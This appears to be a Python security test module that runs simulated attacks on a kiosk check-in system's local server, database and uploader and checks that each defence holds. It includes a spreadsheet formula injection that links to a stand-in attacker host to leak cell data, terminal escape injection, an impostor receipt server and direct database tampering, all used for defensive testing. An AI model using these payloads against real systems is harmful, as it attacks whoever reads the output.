"""The attacks of issue 29, each a row against real processes (a `kiosk-central serve` on
127.0.0.1, the kiosk's store and uploader, the real command lines): a root succession that
must not fail open, one member who must not refuse anyone alone, a committee database login
that must not act unlogged, output that must not attack its reader, the server's files that
must decide nothing, and the low ones. `scripts/attacks` prints them with the others.
"""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
import time
import uuid
from pathlib import Path

from kiosk.core.keys import write_private
from kiosk.core.signed import doc_hash
from kiosk.core.timing import DAY
from workbench.attacks import BIN, Row, World, cli


def kiosk_cli(*args: object, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(BIN / "kiosk"), *map(str, args)], capture_output=True, text=True, timeout=120, cwd=cwd
    )


def _member_files(w: World) -> tuple[Path, Path]:
    a, b = w.work / "alice-member.key", w.work / "bob-member.key"
    for path, key in ((a, w.alice), (b, w.bob)):
        if not path.exists():
            write_private(path, key)
    return a, b


def root_succession(w: World) -> list[Row]:
    """README's procedure for a stolen root, end to end: a successor made, named by the old
    root, promoted (tag keys signed again, its own manifest); the kiosk refuses the level-3
    pass before, during and after it, and uploads and takes bundles throughout."""
    verdicts, rounds = [], []

    def door() -> None:
        w.store.record(w.decide(w.pass_text(uuid.uuid4().bytes)), now=time.time(), clock_synced=True)
        result = w.up.round()
        rounds.append(result.ok and result.pending == 0)
        verdicts.append(w.decide(w.pass_text(w.exposed)).outcome.value)

    door()  # before
    made = cli("keys", "successor", "--keys", w.keys, "--data", w.server.data_dir)
    named = cli("manifest", "publish", "--keys", w.keys, "--data", w.server.data_dir, "--next-root",
                w.keys / "root-next.pub")  # fmt: skip
    door()  # during: the hand-over manifest taken
    promoted = cli("keys", "successor", "--keys", w.keys, "--data", w.server.data_dir, "--promote")
    door()  # after: the new root's manifest, tag keys signed again
    steps = [made.returncode, named.returncode, promoted.returncode]
    return [
        Row(
            "stolen root: README's succession, a level-3 pass at the door",
            "refused before, during and after it",
            f"steps rc {steps}; door {verdicts}",
            steps == [0, 0, 0] and verdicts == ["deny"] * 3,
        ),
        Row(
            "stolen root: uploads and bundles through the hand-over",
            "every round uploads all and takes its bundle",
            f"rounds ok {rounds}",
            all(rounds),
        ),
    ]


def one_member_refuses(w: World) -> list[Row]:
    """Alice alone, with her own committee database login and the project's own statement
    code: a level-3 statement for 89 days under a case that does not exist, written with an
    entry she signs herself."""
    from kiosk.core.passes import pass_ref
    from kiosk.core.riskstatements import sign_statement, statement_payload
    from sync.central.committee.audit import make_entry, member_id

    victim = b"\x77" * 16
    now = time.time()
    sid = uuid.uuid4().hex
    doc = sign_statement(
        statement_payload(
            statement_id=sid,
            pass_refs=[pass_ref(victim)],
            level=3,
            case_id="NO-SUCH-CASE",
            at=now,
            expires_at=now + 89 * DAY,
            member_id=member_id(w.alice.public_key()),
        ),
        w.alice,
    ).decode()
    s = w.storage()
    detail = {"case": "NO-SUCH-CASE", "level": 3, "expires": now + 89 * DAY, "statement": sid,
              "doc_hash": doc_hash(doc), "passes": []}  # fmt: skip
    s.audit_append_statement(
        lambda seq, prev: make_entry(
            seq=seq, at=now, prev=prev, action="risk_change", detail=detail, key=w.alice
        ),
        sid,
        doc,
        expires_at=now + 89 * DAY,
    )
    s.close()
    w.up.round()
    verdict = w.decide(w.pass_text(victim)).outcome.value
    verify = cli("audit", "verify", "--data", w.server.data_dir)
    return [
        Row(
            "one member: a level-3 statement alone, under no case",
            "the visitor is not refused (at most told to get tested)",
            f"door: {verdict}",
            verdict in ("exposed", "admit"),
        ),
        Row(
            "one member: that statement, and audit verify",
            "audit verify fails naming the rule",
            f"rc {verify.returncode}: {verify.stderr.strip()[-70:]}",
            verify.returncode == 1 and "NO-SUCH-CASE" in verify.stderr,
        ),
    ]


def missing_bundle_file(w: World) -> list[Row]:
    """bundle.json deleted, the kiosk restarted: the database's verified copy rules; and the
    technician's `kiosk scan --config` decides as the door does."""
    from sync.central.issuing import save_pass

    w.up.round()
    (w.work / "bundle.json").unlink(missing_ok=True)
    restarted = w.decide(w.pass_text(w.exposed)).outcome.value  # a new TrustProvider: a restart
    cfg = w.work / "scan.toml"
    cfg.write_text(
        f'[kiosk]\nvenue_id = "Market"\ndatabase = "{w.work / "kiosk.db"}"\n'
        f'[keys]\nissuer_keys = ["{w.keys / "issuer.pub"}"]\nroot_key = "{w.work / "root0.pub"}"\n'
        f'[signal]\npin_factory = "mock"\n[sync]\nkiosk_id = "{w.kid}"\n'
    )
    from kiosk.core.keys import write_public

    if not (w.work / "root0.pub").exists():
        write_public(w.work / "root0.pub", w.root)
    save_pass(w.pass_text(w.exposed), png=w.work / "exposed.png")
    scan = kiosk_cli("scan", "--config", cfg, "--json", w.work / "exposed.png")
    said = (
        json.loads(scan.stdout.splitlines()[0])["decision"]
        if scan.stdout.strip()
        else f"rc {scan.returncode}"
    )
    return [
        Row(
            "kiosk disk: bundle.json deleted, the kiosk restarted",
            "the exposed pass still refused",
            f"exposed pass: {restarted}",
            restarted == "deny",
        ),
        Row(
            "technician: kiosk scan --config of the exposed pass",
            "refused, as the door refuses it",
            f"kiosk scan: {said}",
            said == "deny",
        ),
    ]


def committee_login(w: World) -> list[Row]:
    """With a committee database login, around the log: an open case's holds deleted, the
    exposure list deleted, a junk manifest inserted; and a revocation that would leave fewer
    than two share holders."""
    alice, bob = _member_files(w)
    data = w.server.data_dir
    from workbench.world import TEST_CASE

    for pid in (b"\x61" * 16, b"\x62" * 16):  # check-ins in the case's window, uploaded
        w.store.record(w.decide(w.pass_text(pid)), now=time.time(), clock_synced=True)
    w.up.round()
    opened = cli("open-records", "--data", data, "--keys", w.keys, "--case", TEST_CASE, "--member-key", alice,
                 "--member-key", bob)  # fmt: skip
    published = cli("exposures", "publish", "--data", data, "--keys", w.keys, "--member-key", alice)
    before = cli("audit", "verify", "--data", data)
    db = sqlite3.connect(data / "central.db")
    held = db.execute("SELECT count(*) FROM held").fetchone()[0]
    db.execute("DELETE FROM held")
    db.commit()
    holds = cli("audit", "verify", "--data", data)
    retire = cli(
        "keys", "retire", "--keys", w.keys, "--data", data, "--member-key", alice, "--member-key", bob
    )
    db.execute("DELETE FROM exposure_lists")
    db.commit()
    exposures = cli("audit", "verify", "--data", data)
    newest = db.execute("SELECT max(version) FROM manifests").fetchone()[0]
    db.execute(
        "INSERT INTO manifests (version, doc, published_at) VALUES (?, ?, ?)",
        [newest + 1, "junk", time.time()],
    )
    db.commit()
    db.close()
    fetched = w.up.fetch_bundle()
    junk = cli("audit", "verify", "--data", data)
    revoke = cli("member", "revoke", "--data", data, "--member", "Bob", "--member-key", alice)
    ok = [opened.returncode, published.returncode, before.returncode]
    return [
        Row(
            "committee login: an open case's holds deleted",
            "audit verify fails; keys retire refuses",
            f"setup rc {ok}, {held} held; verify rc {holds.returncode}; retire rc {retire.returncode}",
            ok == [0, 0, 0] and held > 0 and holds.returncode == 1 and retire.returncode == 3,
        ),
        Row(
            "committee login: the exposure list deleted",
            "audit verify fails naming it",
            f"verify rc {exposures.returncode}: {exposures.stderr.strip()[-50:]}",
            exposures.returncode == 1 and "exposure list" in exposures.stderr,
        ),
        Row(
            "committee login: a junk manifest inserted",
            "kiosks keep taking bundles; audit verify fails",
            f"bundle {fetched[:32]}; verify rc {junk.returncode}",
            not fetched.startswith("refused") and junk.returncode == 1 and "manifest" in junk.stderr,
        ),
        Row(
            "committee: revoking one of the only two share holders",
            "refused (nobody could open or re-share)",
            f"rc {revoke.returncode}: {revoke.stderr.strip()[-60:]}",
            revoke.returncode == 3 and "share" in revoke.stderr,
        ),
    ]


def readers_attacked(w: World) -> list[Row]:
    """A venue id that is a spreadsheet formula, sealed into a record and read out as CSV; a
    kiosk's health summary carrying terminal escapes."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from kiosk.core import protocol
    from kiosk.core.keys import raw_public
    from kiosk.store.checkins import CheckinStore
    from kiosk.uploader import Uploader
    from workbench.world import TEST_CASE, health_summary

    alice, bob = _member_files(w)
    formula = '=HYPERLINK("http://evil.example/?"&B2,"open")'
    device = Ed25519PrivateKey.generate()
    s = w.storage()
    kid = s.register_kiosk(venue="Stall 9", public_key=raw_public(device.public_key()), now=0)
    s.close()
    from kiosk.core.sealkeys import Sealer

    store = CheckinStore.open(
        w.work / "formula.db", venue_id=formula, sealing=Sealer(fallback=None, periods=w.periods)
    )
    store.record(w.decide(w.pass_text(b"\x5a" * 16)), now=time.time(), clock_synced=True)
    up = Uploader(store=store, server_url=w.server.url, kiosk_id=kid, device_key=device, root_key=w.root,
                  bundle_file=w.work / "formula-bundle.json")  # fmt: skip
    up.round()
    csv_out = cli("open-records", "--data", w.server.data_dir, "--keys", w.keys, "--case", TEST_CASE,
                  "--kiosk", kid, "--csv", "--member-key", alice, "--member-key", bob)  # fmt: skip
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(csv_out.stdout)))
    cells = [r["venue"] for r in rows if "HYPERLINK" in r.get("venue", "")]
    store.close()
    escapes = protocol.sign_health(
        device, kid, health_summary(version="\x1b]0;owned\x07\x1b[2J", at=time.time())
    )
    import requests

    signed = protocol.sign_request(device, kiosk_id=kid, method="GET", path=protocol.BUNDLE_PATH,
                                   timestamp=int(time.time()), body=b"")  # fmt: skip
    requests.get(
        w.server.url + protocol.BUNDLE_PATH, timeout=10, headers={protocol.HEALTH_HEADER: escapes, **signed}
    )
    status = cli("status", "--data", w.server.data_dir)
    return [
        Row(
            "venue id a spreadsheet formula, read out by open-records --csv",
            "the cell is text, not a live formula",
            f"rc {csv_out.returncode}; cell {cells[0][:28] if cells else '(none)'}",
            csv_out.returncode == 0 and bool(cells) and all(c.startswith("'=") for c in cells),
        ),
        Row(
            "a health summary carrying terminal escapes",
            "refused; status prints no escape",
            f"ESC in status: {chr(27) in status.stdout + status.stderr}",
            chr(27) not in status.stdout + status.stderr and chr(7) not in status.stdout,
        ),
    ]


def receipt_key_alone(w: World) -> list[Row]:
    """On the network, with the server's receipt key (not its bundle key): an impostor answers
    uploads with valid receipts naming every record, and stores nothing."""
    import http.server
    import threading

    from kiosk.core.bundle import sign_receipt
    from kiosk.core.keys import RECEIPT_KEY, load_ed25519_private
    from workbench.localserver import free_port

    receipt_key = load_ed25519_private(w.server.keys_dir / RECEIPT_KEY)
    ids = [
        w.store.record(w.decide(w.pass_text(bytes([0x90 + i]) * 16)), now=time.time(), clock_synced=True)
        for i in range(4)
    ]

    class Impostor(http.server.BaseHTTPRequestHandler):
        def do_POST(self):  # noqa: N802
            body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
            import gzip

            batch = json.loads(gzip.decompress(body))
            ids = [r["record_id"] for r in batch["records"]]
            receipt = sign_receipt(
                kiosk_id=w.kid, batch_id=batch["batch_id"], stored=ids, at=time.time(), key=receipt_key
            )
            out = json.dumps(
                {"batch_id": batch["batch_id"], "accepted": ids, "duplicates": [], "receipt": receipt}
            )
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(out)))
            self.end_headers()
            self.wfile.write(out.encode())

        def do_GET(self):  # noqa: N802
            self.send_response(304)
            self.end_headers()

        def log_message(self, *a: object) -> None:
            pass

    port = free_port()
    httpd = http.server.HTTPServer(("127.0.0.1", port), Impostor)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    fake = w.uploader(f"http://127.0.0.1:{port}")
    fake.round()
    httpd.shutdown()
    marks = "SELECT count(*) FROM checkins WHERE synced_at IS NOT NULL AND record_id IN (?, ?, ?, ?)"
    acknowledged = w.store.db.execute(marks, ids).fetchone()[0]
    w.store.purge(now=time.time() + 2 * 3600)
    kept = w.store.db.execute(
        "SELECT count(*) FROM checkins WHERE record_id IN (?, ?, ?, ?)", ids
    ).fetchone()[0]
    w.up.round()  # the real server's bundle: they are not there, so they are queued again ...
    w.up.round()  # ... and stored
    s = w.storage()
    stored = sum(1 for i in ids if i in set(s.record_ids(w.kid)))
    s.close()
    return [
        Row(
            "network + receipt key: receipts for records never stored",
            "none deleted; the real server's bundle sends them again",
            f"acknowledged {acknowledged}, kept after a purge {kept}, then stored {stored} of 4",
            acknowledged == 4 and kept == 4 and stored == 4,
        )
    ]


def low_ones(w: World) -> list[Row]:
    """The audit tail deleted with the store's count restored (a kiosk saw it); a 30-day-old
    health summary replayed; a re-registered key's old request; slow headers straight to
    serve; the database not answering /healthz; a kiosk clock a year ahead."""
    import socket

    import requests
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    from kiosk.core import protocol
    from kiosk.core.keys import raw_public
    from workbench.localserver import LocalServer
    from workbench.world import health_summary

    rows = []
    alice, bob = _member_files(w)
    # -- the tail, cut with the store's count restored, after a kiosk saw it
    data = w.work / "tail-store"
    shutil.copytree(w.server.data_dir, data, ignore=shutil.ignore_patterns("*.log"))
    db = sqlite3.connect(data / "central.db")
    last = db.execute("SELECT max(seq) FROM audit").fetchone()[0]
    db.execute("INSERT OR REPLACE INTO audit_witness (kiosk_id, seq, hash, reported_at) "
               "SELECT ?, seq, hash, 0 FROM audit WHERE seq = ?", [w.kid, last])  # fmt: skip
    db.execute("DELETE FROM audit WHERE seq = ?", [last])
    db.execute("UPDATE meta SET value = ? WHERE key = 'audit_length'", [str(last - 1)])
    db.commit()
    db.close()
    import os

    env = {**os.environ, "KIOSK_CENTRAL_WITNESS": str(w.work / "another-member.json")}  # Bob's machine
    r = subprocess.run([str(BIN / "kiosk-central"), "case", "list", "--data", str(data)], capture_output=True,
                       text=True, env=env, timeout=60)  # fmt: skip
    rows.append(Row("server DB: the log's tail cut, its count restored",
                    "another member's command refuses, naming the kiosk",
                    f"rc {r.returncode}: {r.stderr.strip()[:50]}",
                    r.returncode == 3 and w.kid in r.stderr))  # fmt: skip
    # -- a 30-day-old health summary, replayed on a fresh request
    device = Ed25519PrivateKey.generate()
    s = w.storage()
    kid = s.register_kiosk(venue="Replay", public_key=raw_public(device.public_key()), now=0)
    s.close()
    old = protocol.sign_health(device, kid, health_summary(at=time.time() - 30 * DAY, pending=999))
    fresh = protocol.sign_request(device, kiosk_id=kid, method="GET", path=protocol.BUNDLE_PATH,
                                  timestamp=int(time.time()), body=b"")  # fmt: skip
    requests.get(
        w.server.url + protocol.BUNDLE_PATH, timeout=10, headers={protocol.HEALTH_HEADER: old, **fresh}
    )
    s = w.storage()
    seen = s.kiosks_seen().get(kid)
    # -- a newer summary held, then an older one (five minutes) replayed on a fresh request
    for at, pending in ((time.time(), 1), (time.time() - 300, 999)):
        request = protocol.sign_request(device, kiosk_id=kid, method="GET", path=protocol.BUNDLE_PATH,
                                        timestamp=int(time.time()), body=b"")  # fmt: skip
        summary = protocol.sign_health(device, kid, health_summary(at=at, pending=pending))
        requests.get(w.server.url + protocol.BUNDLE_PATH, timeout=10,
                     headers={protocol.HEALTH_HEADER: summary, **request})  # fmt: skip
    latest = json.loads(s.kiosks_seen()[kid].summary or "{}").get("pending")
    # -- a key re-registered under a new id: its old id's signed request replayed under the new one
    signed = protocol.sign_request(device, kiosk_id=kid, method="GET", path=protocol.BUNDLE_PATH,
                                   timestamp=int(time.time()), body=b"")  # fmt: skip
    s.revoke_kiosk(kid, now=time.time())
    new_kid = s.register_kiosk(venue="Replay", public_key=raw_public(device.public_key()), now=0)
    s.close()
    replayed = requests.get(
        w.server.url + protocol.BUNDLE_PATH, timeout=10, headers={**signed, "X-Kiosk-Id": new_kid}
    )
    rows.append(Row("a 30-day-old health summary replayed", "not kept as current",
                    f"summary kept: {bool(seen and seen.summary)}", not (seen and seen.summary)))  # fmt: skip
    rows.append(Row("an older health summary replayed after a newer one", "the newer one stays",
                    f"pending held: {latest}", latest == 1))  # fmt: skip
    rows.append(Row("a re-registered key's request, replayed under its new id", "refused (the id is signed)",
                    f"HTTP {replayed.status_code}", replayed.status_code == 401))  # fmt: skip
    # -- slow headers straight to serve; /healthz while the database does not answer
    with LocalServer(w.work / "lows", w.server.keys_dir, extra=("--header-timeout", "1")) as srv:
        conn = socket.create_connection(("127.0.0.1", srv.port), timeout=5)
        conn.sendall(b"GET /healthz HTTP/1.1\r\n")
        started, cut = time.monotonic(), False
        while time.monotonic() - started < 6:
            try:
                conn.sendall(b"X")
                if conn.recv(64) == b"":
                    cut = True
                    break
            except TimeoutError:
                continue
            except OSError:
                cut = True
                break
        took = time.monotonic() - started
        conn.close()
    rows.append(Row("slow headers straight to serve", "cut within its header timeout",
                    f"cut {cut} after {took:.1f} s", cut and took < 4))  # fmt: skip
    # -- a kiosk clock a year ahead, the server's signed time known: a record's retention
    from kiosk.core.timing import door_time

    t = door_time(time.time() + 365 * DAY, w.up.trust.server_now())
    rid = w.store.record(w.decide(w.pass_text(b"\x5c" * 16)), now=t.record, clock_synced=False)
    kept = w.store.db.execute(
        "SELECT delete_after - ? FROM checkins WHERE record_id = ?", [time.time(), rid]
    ).fetchone()[0]
    rows.append(Row("kiosk clock a year ahead: a normal record's retention",
                    "at most 28 days from its writing",
                    f"kept {kept / DAY:.1f} days", kept <= 28 * DAY + 60))  # fmt: skip
    return rows


def healthz_database_down(work: Path) -> list[Row]:
    """The server's PostgreSQL stops answering (its processes stopped with SIGSTOP): /healthz
    says so within about a second, instead of hanging a balancer's health check."""
    import os
    import signal

    import requests

    from sync.central.keyring import server_keys_folder
    from workbench.localserver import LocalServer
    from workbench.pgserver import PgServer, server_binaries

    if server_binaries() is None:
        return [Row("/healthz while PostgreSQL does not answer", "503 within about a second",
                    "skipped: no PostgreSQL binaries here", True)]  # fmt: skip
    pg = PgServer().start()
    try:
        keys = server_keys_folder(work / "committee", work / "pg-server-keys")
        with LocalServer(work / "pg-serve", keys, database=pg.fresh_database()) as srv:
            ok = requests.get(srv.url + "/healthz", timeout=10).status_code
            pid = int((pg.data / "postmaster.pid").read_text().split()[0])
            stopped = [pid] + [int(x) for x in subprocess.run(["pgrep", "-P", str(pid)], capture_output=True,
                                                             text=True).stdout.split()]  # fmt: skip
            for p in stopped:
                os.kill(p, signal.SIGSTOP)
            try:
                time.sleep(0.2)
                t0 = time.monotonic()
                try:
                    code = requests.get(srv.url + "/healthz", timeout=10).status_code
                except requests.RequestException:
                    code = 0
                answered = time.monotonic() - t0
            finally:
                for p in stopped:
                    os.kill(p, signal.SIGCONT)
    finally:
        pg.stop()
    return [
        Row("/healthz while PostgreSQL does not answer", "503 within about a second",
            f"HTTP {ok} first, then {code} in {answered:.1f} s", ok == 200 and code == 503 and answered < 2.5)
    ]  # fmt: skip


# In this order: the last three leave the store as an attacker left it (a junk manifest, holds
# deleted, an entry that breaks the committee's rules).
SCENARIOS = [missing_bundle_file, readers_attacked, receipt_key_alone, low_ones, root_succession,
             one_member_refuses]  # fmt: skip
FRESH = [committee_login]  # each against a store no other attack has damaged (a world of its own)
